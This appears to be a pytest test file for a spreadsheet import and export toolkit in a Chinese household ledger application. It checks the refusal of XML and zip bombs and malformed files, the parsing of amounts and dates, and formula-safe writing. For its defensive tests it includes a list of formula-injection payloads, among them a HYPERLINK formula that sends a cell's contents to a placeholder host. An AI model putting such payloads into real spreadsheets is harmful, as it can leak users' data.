"""The generic spreadsheet toolkit: safe opening, tolerant parsers, row errors, formula-safe writing.

RELIABILITY items 1-6 at the toolkit level; the ledger import tests cover them end to end.
"""

import csv
import datetime as dt
import io
import time
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from home import spreadsheets as ss
from tests.home import ledger_support as files


def refused(data):
    with pytest.raises(ss.SpreadsheetError) as info:
        workbook = ss.open_workbook(io.BytesIO(data))
        report = ss.ErrorReport()
        for spec in (ss.SheetSpec(name=name, columns=()) for name in workbook.sheetnames):
            list(ss.read_sheet(workbook, spec, report))
    return info.value


def test_openpyxl_parses_xml_through_defusedxml():
    assert openpyxl.DEFUSEDXML is True


BOMBED_MEMBERS = [
    "xl/worksheets/sheet1.xml",
    "xl/workbook.xml",
    "xl/styles.xml",
    "xl/_rels/workbook.xml.rels",
    "[Content_Types].xml",
    "docProps/core.xml",
]


@pytest.mark.parametrize("member", BOMBED_MEMBERS)
def test_xml_bomb_is_refused_quickly_as_invalid_content(member):
    data = files.xml_bomb(member)
    assert len(data) < 10_000
    started = time.monotonic()
    error = refused(data)
    assert time.monotonic() - started < 5
    assert "文件内容无效" in error.message


def test_zip_bomb_is_refused_by_the_precheck_before_openpyxl():
    data = files.zip_bomb()
    assert len(data) < 400_000
    started = time.monotonic()
    error = refused(data)
    assert time.monotonic() - started < 2
    assert error.code == "zip_ratio"


def test_zip_with_too_many_members_is_refused():
    assert refused(files.many_members()).code == "zip_members"


def test_zip_whose_members_total_more_than_the_limit_is_refused(settings):
    settings.SPREADSHEET_MAX_UNCOMPRESSED = 2 * 1024 * 1024
    assert refused(files.incompressible()).code == "zip_size"


def test_sparse_sheet_claiming_xfd1048576_is_refused_quickly():
    data = files.sparse_sheet()
    assert len(data) < 10_000
    started = time.monotonic()
    error = refused(data)
    assert time.monotonic() - started < 2
    assert "超过最大行数/列数" in error.message


def test_sheet_over_the_row_cap_is_refused(settings):
    settings.SPREADSHEET_MAX_ROWS = 50
    error = refused(files.big_cash_workbook(60))
    assert "超过最大行数/列数" in error.message


def test_default_caps_allow_the_benchmark_ledger():
    assert ss.limit("SPREADSHEET_MAX_ROWS", ss.DEFAULT_MAX_ROWS) >= 200_000
    assert ss.limit("SPREADSHEET_MAX_COLUMNS", ss.DEFAULT_MAX_COLUMNS) >= 30


@pytest.mark.parametrize(
    ("data", "code", "words"),
    [
        (b"\x93\x1f random bytes \x00\xff" * 50, "not_xlsx", "不是有效的 Excel"),
        (files.ole2_file(), "ole2", ".xls"),
        (files.html_file(), "html", "网页"),
        (files.truncated_zip(), "bad_zip", "损坏"),
        (files.without_content_types(), "no_content_types", "[Content_Types].xml"),
        (b"", "empty", "文件为空"),
    ],
    ids=[
        "random-bytes",
        "ole2-or-password",
        "html-renamed",
        "truncated-zip",
        "no-content-types",
        "empty-file",
    ],
)
def test_malformed_files_get_a_specific_chinese_error(data, code, words):
    error = refused(data)
    assert error.code == code
    assert words in error.message


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("1,000.00", Decimal("1000.00")),
        ("¥500", Decimal("500.00")),
        ("￥1,234.50", Decimal("1234.50")),
        ("500元", Decimal("500.00")),
        ("１２３", Decimal("123.00")),
        ("  88.8 ", Decimal("88.80")),
        (0.1 + 0.2, Decimal("0.30")),
        (250, Decimal("250.00")),
        ("RMB 20", Decimal("20.00")),
    ],
)
def test_amounts_as_clerks_type_them_become_exact_decimals(typed, expected):
    value = ss.parse_amount(typed)
    assert value == expected
    assert value.as_tuple().exponent == -2


@pytest.mark.parametrize(
    ("typed", "reason"),
    [
        ("=SUM(A1:A3)", "公式"),
        ("-5", "负数"),
        ("1.234", "小数"),
        (0.125, "小数"),
        ("1,00", "数值"),
        ("abc", "数值"),
        ("0", "大于零"),
        (None, "不能为空"),
    ],
)
def test_invalid_amounts_are_refused_with_a_reason(typed, reason):
    with pytest.raises(ss.CellError) as info:
        ss.parse_amount(typed)
    assert reason in str(info.value)


def test_negative_amount_is_accepted_where_corrections_allow_it():
    assert ss.parse_amount("-12.50", allow_negative=True) == Decimal("-12.50")


@pytest.mark.parametrize(
    "typed",
    [
        dt.datetime(2020, 2, 3, 10, 0),
        dt.date(2020, 2, 3),
        43864,
        "43864",
        "2020-02-03",
        "2020/2/3",
        "2020年2月3日",
        "２０２０年２月３日",
        " 2020.2.3 ",
    ],
)
def test_dates_in_every_tolerated_form(typed):
    assert ss.parse_date(typed) == dt.date(2020, 2, 3)


def test_aware_datetime_takes_its_day_in_asia_shanghai():
    utc_evening = dt.datetime(2020, 2, 2, 16, 30, tzinfo=dt.UTC)  # 00:30 on 3 Feb in Shanghai
    assert ss.parse_date(utc_evening) == dt.date(2020, 2, 3)


@pytest.mark.parametrize("typed", ["2020-02-30", "昨天", "=TODAY()", None])
def test_invalid_dates_are_refused(typed):
    with pytest.raises(ss.CellError):
        ss.parse_date(typed)


def test_read_sheet_reports_every_bad_cell_with_sheet_row_and_column():
    spec = ss.SheetSpec(
        name="数据",
        columns=(
            ss.Column("number", "编号"),
            ss.Column("amount", "金额", ss.parse_amount),
            ss.Column("day", "日期", ss.parse_date),
        ),
    )
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "数据"
    sheet.append(["日期", "编号", "金额", "多余的列"])  # reordered and extra columns are fine
    sheet.append(["2020-02-03", " A1 ", "1,000.00", "x"])
    sheet.append([None, None, None, None])  # empty rows are skipped
    sheet.append(["不是日期", "A2", "=SUM(B1:B2)", None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    report = ss.ErrorReport()
    rows = list(ss.read_sheet(ss.open_workbook(buffer), spec, report))
    assert rows == [(2, {"number": "A1", "amount": Decimal("1000.00"), "day": dt.date(2020, 2, 3)})]
    assert report.as_list() == [
        {"sheet": "数据", "row": 4, "column": "金额", "reason": "不接受公式，请填写数值"},
        {"sheet": "数据", "row": 4, "column": "日期", "reason": "不是有效的日期"},
    ]
    assert "工作表 数据 第 4 行 金额" in report.as_text()


def test_missing_header_is_reported_as_a_row_error():
    spec = ss.SheetSpec(name="Sheet", columns=(ss.Column("number", "编号"),))
    buffer = io.BytesIO(files.empty_workbook())
    report = ss.ErrorReport()
    assert list(ss.read_sheet(ss.open_workbook(buffer), spec, report)) == []
    assert report.errors[0].reason in {"缺少表头行", "缺少列“编号”"}


INJECTIONS = ['=HYPERLINK("http://x/?"&A2)', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_written_text_never_becomes_a_formula_and_numbers_stay_numeric():
    buffer = io.BytesIO()
    rows = [[text, Decimal("12.50"), 3, dt.date(2020, 2, 3)] for text in INJECTIONS + ["a\0b"]]
    ss.write_workbook(
        buffer,
        [
            ss.OutSheet(
                "导出",
                [
                    ss.OutColumn("文本"),
                    ss.OutColumn("金额", number_format="#,##0.00"),
                    ss.OutColumn("数量"),
                    ss.OutColumn("日期", number_format="yyyy-mm-dd"),
                ],
                rows,
            )
        ],
    )
    xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert 'state="frozen"' in xml
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    texts = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in texts)
    # openpyxl writes through lxml (requirements.txt), which escapes a carriage return as &#13;, so
    # the text comes back unchanged (the NUL byte, illegal in XML, is dropped).
    assert [cell.value for cell in texts] == INJECTIONS + ["ab"]
    amount, count, day = sheet["B2"], sheet["C2"], sheet["D2"]
    assert amount.data_type == "n" and amount.value == 12.5 and amount.number_format == "#,##0.00"
    assert count.data_type == "n" and count.value == 3
    assert day.is_date and day.value.date() == dt.date(2020, 2, 3)


def test_csv_cells_that_could_run_start_with_a_quote():
    stream = io.StringIO()
    writer = csv.writer(stream)
    writer.writerow([ss.csv_safe(value) for value in INJECTIONS + [Decimal("5.00"), 7, "普通文本"]])
    row = next(csv.reader(io.StringIO(stream.getvalue())))
    assert all(cell.startswith("'") for cell in row[: len(INJECTIONS)])
    assert row[len(INJECTIONS) :] == ["5.00", "7", "普通文本"]


@pytest.mark.parametrize("member", BOMBED_MEMBERS)
def test_xml_bomb_does_not_grow_memory(member):
    import resource
    import tracemalloc

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    refused(files.xml_bomb(member))
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert peak < 100 * 1024 * 1024
    assert grown_kb < 100 * 1024


def test_read_sheet_keeps_formula_like_text_but_refuses_formula_cells():
    spec = ss.SheetSpec(
        name="数据",
        columns=(ss.Column("name", "名称"), ss.Column("amount", "金额", ss.parse_amount)),
    )
    buffer = io.BytesIO()
    text_rows = [[text.strip(), "1"] for text in INJECTIONS]
    ss.write_workbook(buffer, [ss.OutSheet("数据", [ss.OutColumn("名称"), ss.OutColumn("金额")], text_rows)])
    report = ss.ErrorReport()
    rows = list(ss.read_sheet(ss.open_workbook(buffer), spec, report))
    assert not report, report.as_list()
    assert [values["name"] for _row, values in rows] == [text.strip() for text in INJECTIONS]

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "数据"
    sheet.append(["名称", "金额"])
    sheet.append(['=HYPERLINK("http://x/?"&A2)', "=1+1"])  # openpyxl writes both as formula cells
    buffer = io.BytesIO()
    workbook.save(buffer)
    report = ss.ErrorReport()
    assert list(ss.read_sheet(ss.open_workbook(buffer), spec, report)) == []
    assert [(e["column"], e["reason"]) for e in report.as_list()] == [
        ("名称", "不接受公式，请填写文字"),
        ("金额", "不接受公式，请填写数值"),
    ]
